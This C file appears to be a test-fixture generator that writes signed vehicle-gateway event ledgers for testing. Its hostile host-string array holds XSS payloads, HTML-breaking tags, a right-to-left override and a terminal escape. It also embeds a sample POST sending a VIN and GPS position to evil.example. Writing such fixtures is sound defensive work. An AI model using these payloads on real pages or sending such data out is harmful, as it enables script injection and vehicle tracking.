/* SPDX-License-Identifier: Apache-2.0 */
/* Usage: ledgers FOLDER VEHICLES RECORDS   writes FOLDER/van-01 ..., each a sealed ledger
 * of RECORDS records over ten days, and van-01.pub ... beside them. The same each time
 * but for keys. The first vehicle's unit also says what would break a page that trusts
 * it. ledgers long FOLDER PIECES writes FOLDER/long, of one incident with a trail of so
 * many pieces. */
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "gateway/file.h"
#include "gateway/ledger/store.h"
#include "tests/gateway/hellos.h"
#include "tests/gateway/trail_kit.h"

#define BATCH 400
#define LONG_HEADERS 110 /* in a piece of a long trail, which has room for them */
#define DAYS UINT64_C(10)
#define BEGIN_US UINT64_C(1794787200000000) /* 2026-11-16T00:00:00Z */
#define SPAN_US (DAYS * UINT64_C(86400000000))

static uint64_t state;

static uint64_t draw(uint64_t below)
{
    state = state * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
    return (state >> 33) % below;
}

/* How often of 1000 each sort comes. */
enum sort {
    PASSED,
    GOES_ON,
    FOREIGN,
    NAMES,
    TRACKER,
    VIDEO,
    UNKNOWN,
    DIAGNOSTIC,
    PING,
    ROLE
};
static const unsigned weights[] = {
    [PASSED] = 420, [GOES_ON] = 200, [FOREIGN] = 90,    [NAMES] = 110, [TRACKER] = 30,
    [VIDEO] = 10,   [UNKNOWN] = 90,  [DIAGNOSTIC] = 30, [PING] = 15,   [ROLE] = 5};

static const char *const hosts[] = {"stats.head-unit.example", "evil.example",
                                    "cdn.maps.example",        "ads.example",
                                    "update.stranger.example", "api.weather.example",
                                    "beacon.tracker.example"};
static const char *const hostile[] = {"<script>document.title='owned'</script>",
                                      "\"><img src=x onerror=alert(1)>.example",
                                      "javascript:alert(1)",
                                      "a.example' onmouseover='x",
                                      "\xe2\x80\xaegnp.elpmaxe",
                                      "</td></table><h1>owned",
                                      "&lt;b&gt;.example",
                                      "\x1b[2J.example",
                                      "bad\xff\xfe.example"};
#define COUNT(array) (sizeof(array) / sizeof(array)[0])

/* A login of a GT06 tracker, as it is on the wire. */
static const uint8_t tracker[] = {0x78, 0x78, 0x0D, 0x01, 0x01, 0x23, 0x45, 0x67, 0x89,
                                  0x01, 0x23, 0x45, 0x00, 0x01, 0x8C, 0xDD, 0x0D, 0x0A};

static uint64_t cause_of(const struct event *event, const char *text)
{
    uint64_t hash = UINT64_C(14695981039346656037) ^ event->reason;
    for (const char *at = text; *at != 0; at++) {
        hash = (hash ^ (unsigned char)*at) * UINT64_C(1099511628211);
    }
    return hash | 1;
}

static void make_flow(struct event *event, enum reason reason, const char *host,
                      uint16_t port)
{
    const uint8_t unit[] = {192, 0, 2, 10};
    const uint8_t server[] = {198, 51, 100, (uint8_t)(strlen(host) + host[0])};
    event->source = EVENT_FROM_UPLINK;
    event->subject = EVENT_FLOW;
    event->reason = (uint16_t)reason;
    event->flow = (struct event_flow){.transport = 6,
                                      .protocol = TRAFFIC_TLS,
                                      .client = address_ipv4(unit),
                                      .client_port = (uint16_t)(40000 + draw(20000)),
                                      .server = address_ipv4(server),
                                      .server_port = port};
    (void)snprintf(event->flow.host, sizeof event->flow.host, "%s", host);
    event->cause = cause_of(event, host);
}

static void make_evidence(struct event *event)
{
    static const char request[] =
        "POST /collect?v=2 HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 64\r\n\r\n"
        "{\"vin\":\"WVWZZZ1JZXW000001\",\"lat\":48.13713,\"lon\":11.57544,\"x\":\"<b>\"}";
    struct event_evidence *evidence = &event->flow.evidence;
    bool web = draw(2) == 0;
    const void *said = web ? (const void *)request : (const void *)tracker;
    event->reason = REASON_DECOY_KEPT;
    event->flow.protocol = web ? TRAFFIC_HTTP : TRAFFIC_GT06;
    evidence->len = (uint16_t)(web ? sizeof request - 1 : sizeof tracker);
    evidence->part = evidence->parts = 1;
    memcpy(evidence->bytes, said, evidence->len);
}

static void make_name(struct event *event, const char *name)
{
    const uint8_t unit[] = {192, 0, 2, 10};
    event->source = EVENT_FROM_UPLINK;
    event->subject = EVENT_NAME;
    event->reason = REASON_NAME_NOT_ALLOWED;
    event->name = (struct event_name){.client = address_ipv4(unit), .type = 1};
    (void)snprintf(event->name.name, sizeof event->name.name, "%s", name);
    event->cause = cause_of(event, name);
}

static void make_frame(struct event *event, enum reason reason, uint32_t id)
{
    char text[16];
    event->source = EVENT_FROM_CAN;
    event->subject = EVENT_FRAME;
    event->reason = (uint16_t)reason;
    event->frame = (struct event_frame){
        .from = "unit", .to = "vehicle", .id = id, .length = (uint8_t)(1 + draw(8))};
    (void)snprintf(text, sizeof text, "%" PRIx32, id);
    event->cause = cause_of(event, text);
}

static void make_passed(struct event *event, enum reason reason)
{
    make_flow(event, reason, "state.telemetry.example", 8883);
    event->action = EVENT_PASSED;
    event->flow.bytes_up = 200 + draw(20000);
    event->flow.bytes_down = 100 + draw(4000);
    event->rule_line = 14;
}

static void make_other(struct event *event, enum sort sort)
{
    const uint8_t far[] = {203, 0, 113, (uint8_t)draw(4)};
    if (sort == PING) {
        event->source = EVENT_FROM_UPLINK;
        event->subject = EVENT_PACKET;
        event->reason = REASON_PROTOCOL_NOT_ALLOWED;
        event->packet = (struct event_packet){.protocol = 1, .server = address_ipv4(far)};
        event->cause = cause_of(event, "icmp") + 2 * far[3];
        return;
    }
    event->source = EVENT_FROM_GUARD;
    event->action = EVENT_NOTED;
    event->subject = EVENT_SYSTEM;
    event->reason = draw(20) == 0 ? REASON_ROLE_DIED : REASON_STARTED;
    (void)snprintf(event->system.about, sizeof event->system.about, "uplink");
    event->cause = cause_of(event, "role");
}

static enum sort draw_sort(void)
{
    uint64_t left = draw(1000);
    enum sort sort = PASSED;
    while (left >= weights[sort]) {
        left -= weights[sort];
        sort++;
    }
    return sort;
}

static void make(struct event *event, unsigned vehicle, uint64_t seq)
{
    enum sort sort = draw_sort();
    const char *host = hosts[draw(COUNT(hosts))];
    if (vehicle == 1 && seq % 97 == 0) {
        host = hostile[seq / 97 % COUNT(hostile)];
        sort = seq % 2 == 0 ? FOREIGN : NAMES;
    }
    event->count = draw(4) == 0 ? 1 + draw(60) : 1;
    switch (sort) {
    case PASSED:
    case GOES_ON:
        make_passed(event, sort == PASSED ? REASON_PASS_THROUGH : REASON_FLOW_GOES_ON);
        break;
    case FOREIGN:
        make_flow(event, REASON_ADDRESS_NOT_NAMED, host, 443);
        break;
    case NAMES:
        make_name(event, host);
        break;
    case TRACKER:
        make_flow(event, REASON_VEHICLE_DATA, "", (uint16_t)(5000 + draw(3)));
        make_evidence(event);
        break;
    case VIDEO:
        make_flow(event, REASON_VIDEO_STREAM, "cam.head-unit.example", 1935);
        event->flow.protocol = TRAFFIC_RTMP;
        break;
    case UNKNOWN:
        make_frame(event, REASON_UNKNOWN_ID, 0x600 + (uint32_t)draw(12));
        break;
    case DIAGNOSTIC:
        make_frame(event, REASON_DIAGNOSTIC_REQUEST, 0x7E0 + (uint32_t)draw(2));
        break;
    case PING:
    case ROLE:
        make_other(event, sort);
        break;
    }
}

static struct event next_event(unsigned vehicle, uint64_t seq, uint64_t records)
{
    uint64_t at_us = SPAN_US / records * seq + draw(SPAN_US / records);
    struct event event = {.source_epoch = vehicle,
                          .mono_us = at_us,
                          .wall_us = BEGIN_US + at_us,
                          .wall_trusted = true,
                          .action = EVENT_DROPPED,
                          .policy_version = 7,
                          .mode = "road"};
    make(&event, vehicle, seq);
    event.source_seq = seq;
    event.first_us = event.last_us = event.mono_us;
    return event;
}

/* A denial, and what came before it. */
static struct event next_of_trail(unsigned vehicle, uint64_t seq, uint64_t records)
{
    (void)records;
    struct event event = {.source = EVENT_FROM_UPLINK,
                          .source_epoch = vehicle,
                          .source_seq = seq,
                          .count = 1,
                          .mono_us = seq * 1000,
                          .wall_us = BEGIN_US + seq * 1000,
                          .wall_trusted = true};
    make_flow(&event, REASON_ADDRESS_NOT_NAMED, "long.example", 443);
    if (seq > 1) {
        trail_kit_pack(&event, LONG_HEADERS, "unit", 1, 1);
    }
    return event;
}

typedef struct event (*maker)(unsigned vehicle, uint64_t seq, uint64_t records);

static bool write_ledger(const char *path, struct signature_key *key, unsigned vehicle,
                         uint64_t records, maker make_next, struct trouble *why)
{
    static const uint8_t boot[STORE_BOOT_ID_BYTES] = {0xB0, 0x07};
    struct store_limits limits = {.max_bytes = UINT64_C(4) << 30,
                                  .segment_bytes = 4U << 20};
    struct store_time now = {.wall_us = BEGIN_US, .wall_trusted = true};
    struct store *store = store_open(path, key, &limits, boot, &now, why);
    bool good = store != NULL;
    for (uint64_t seq = 1; good && seq <= records; seq++) {
        struct event event = make_next(vehicle, seq, records);
        now.mono_us = event.mono_us;
        now.wall_us = event.wall_us;
        good = store_append(store, &event, &now) == STORE_KEPT;
        if (seq % BATCH == 0 || seq == records) {
            good = good && store_flush(store, &now, why);
        }
    }
    if (store != NULL) {
        store_close(store);
    }
    return good;
}

/* PATH with another ending. */
static bool write_key(const char *path, const char *ending, const char *pem, mode_t mode,
                      struct trouble *why)
{
    char name[4096];
    (void)snprintf(name, sizeof name, "%s%s", path, ending);
    return file_replace(name, pem, strlen(pem), mode, why);
}

static bool write_vehicle(const char *path, unsigned vehicle, uint64_t records,
                          maker make_next, struct trouble *why)
{
    char private_pem[SIGNATURE_PEM_BYTES];
    char public_pem[SIGNATURE_PEM_BYTES];
    if (!signature_new_pair(private_pem, public_pem, why) ||
        !write_key(path, ".pub", public_pem, 0644, why) ||
        !write_key(path, ".key", private_pem, 0600, why)) {
        return false;
    }
    struct signature_key *key = signature_key_parse(private_pem, why);
    state = vehicle * 7919;
    bool good = key != NULL && write_ledger(path, key, vehicle, records, make_next, why);
    signature_key_free(key);
    return good;
}

/* The hello of a denial, in two pieces. */
static bool add_hello(struct store *store, struct event event,
                      const struct store_time *now)
{
    const uint32_t cut = 100;
    struct event_evidence *piece = &event.flow.evidence;
    event.count = 0;
    *piece = (struct event_evidence){
        .kind = EVENT_HELLO_JUDGED, .len = (uint16_t)cut, .part = 1, .parts = 2};
    memcpy(piece->bytes, openssl_tls13, cut);
    event.source_seq++;
    if (store_append(store, &event, now) != STORE_KEPT) {
        return false;
    }
    piece->part = 2;
    piece->offset = cut;
    piece->len = (uint16_t)(sizeof openssl_tls13 - cut);
    memcpy(piece->bytes, openssl_tls13 + cut, piece->len);
    event.source_seq++;
    return store_append(store, &event, now) == STORE_KEPT;
}

static bool add_one(const char *path, const char *host, struct trouble *why)
{
    static const uint8_t boot[STORE_BOOT_ID_BYTES] = {0xB0, 0x08};
    char name[4096];
    struct store_limits limits = {.max_bytes = UINT64_C(4) << 30,
                                  .segment_bytes = 4U << 20};
    struct store_time now = {.wall_us = BEGIN_US + SPAN_US + 60000000,
                             .wall_trusted = true};
    struct event event = {.source_epoch = clock_steady_us(),
                          .source_seq = 1,
                          .wall_us = now.wall_us,
                          .wall_trusted = true,
                          .count = 1};
    (void)snprintf(name, sizeof name, "%s.key", path);
    char *pem = file_read_key(name, why);
    struct signature_key *key = pem != NULL ? signature_key_parse(pem, why) : NULL;
    struct store *store =
        key != NULL ? store_open(path, key, &limits, boot, &now, why) : NULL;
    make_flow(&event, REASON_ADDRESS_NOT_NAMED, host, 443);
    bool good = store != NULL && store_append(store, &event, &now) == STORE_KEPT &&
                add_hello(store, event, &now) && store_flush(store, &now, why);
    if (store != NULL) {
        store_close(store);
    }
    signature_key_free(key);
    free(pem);
    return good;
}

int main(int argc, char **argv)
{
    struct trouble why = {.text = "usage: ledgers FOLDER VEHICLES RECORDS | more LEDGER "
                                  "HOST | long FOLDER PIECES"};
    char path[2048];
    bool good = argc == 4;
    if (good && strcmp(argv[1], "more") == 0) {
        good = add_one(argv[2], argv[3], &why);
    } else if (good && strcmp(argv[1], "long") == 0) {
        (void)mkdir(argv[2], 0755);
        (void)snprintf(path, sizeof path, "%s/long", argv[2]);
        good = write_vehicle(path, 1, strtoull(argv[3], NULL, 10), next_of_trail, &why);
    } else if (good) {
        unsigned vehicles = (unsigned)strtoul(argv[2], NULL, 10);
        (void)mkdir(argv[1], 0755);
        for (unsigned vehicle = 1; good && vehicle <= vehicles; vehicle++) {
            (void)snprintf(path, sizeof path, "%s/van-%02u", argv[1], vehicle);
            good = write_vehicle(path, vehicle, strtoull(argv[3], NULL, 10), next_event,
                                 &why);
        }
    }
    if (!good) {
        fprintf(stderr, "%s\n", why.text);
    }
    return good ? 0 : 1;
}
